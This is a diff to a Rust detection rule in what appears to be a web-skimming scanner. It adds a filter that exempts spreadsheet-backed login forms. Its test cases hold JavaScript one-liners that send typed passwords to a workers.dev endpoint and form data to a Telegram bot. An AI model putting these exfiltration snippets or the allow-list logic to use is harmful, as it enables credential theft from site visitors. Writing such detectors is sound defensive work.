@@ -1,7 +1,9 @@
 //! `secret-to-drop-box`.
 
 use crate::facts::Atom;
-use crate::signals::{Signal, one};
+use crate::signals::answered::reads_answer;
+use crate::signals::near::Near;
+use crate::signals::{Evidence, Held, Signal, one};
 use crate::{ClassSet, Severity};
 
 pub(super) const SIGNAL: Signal = Signal {
@@ -11,7 +13,7 @@ pub(super) const SIGNAL: Signal = Signal {
     classes: ClassSet::MAGECART.union(ClassSet::MALWARE),
     needs: &[one(&[Atom::SecretToDropBox])],
     within: 0,
-    only_if: None,
+    only_if: Some(is_dropped),
     #[cfg(test)]
     cases: crate::signals::Cases {
         with: &[
@@ -26,6 +28,25 @@ pub(super) const SIGNAL: Signal = Signal {
             "fetch('/api/login',{method:'POST',body:JSON.stringify({email:m.value,password:p.value})})",
             "fetch('https://app.workers.dev/login',{method:'POST',body:JSON.stringify({email:m.value,password:p.value})})",
             "fetch('https://api.telegram.org/bot'+t+'/sendMessage',{method:'POST',body:JSON.stringify({chat_id:c,text:'Name: '+n.value+' Phone: '+p.value})})",
+            r#"const api='https://script.google.com/macros/s/a/exec';f.onsubmit=async e=>{e.preventDefault();const r=await fetch(api+'?action=login&u='+f.user.value+'&password='+document.getElementById('password').value);const o=await r.json();if(o.ok)location.href='marks.html'}"#,
         ],
     },
 };
+
+/// Whether it is a bot, a webhook or a service for forms, or nobody reads an answer. Small sites and lessons keep their accounts in a
+/// table that answers.
+pub(super) fn is_dropped(evidence: &Evidence<'_>, held: Held) -> bool {
+    let stream = evidence.stream;
+    let boxes = evidence.facts.iter().filter(|fact| matches!(fact.atom, Atom::DropBox | Atom::BotCall));
+    let is_table = |at: u32| {
+        let text = stream.text(&stream.items()[at as usize]).to_ascii_lowercase();
+        TABLES.iter().any(|table| text.contains(table))
+    };
+    let mut known = boxes.take(MANY).map(|fact| is_table(fact.at)).peekable();
+    known.peek().is_none() || known.any(|table| !table) || !reads_answer(Near::new(evidence, held, 80))
+}
+
+/// Tables on the web.
+const TABLES: &[&str] = &["mockapi.io", "sheetdb.io", "sheet.best", "jsonbin.io", "script.google.com/macros"];
+/// Boxes that are looked at.
+const MANY: usize = 64;
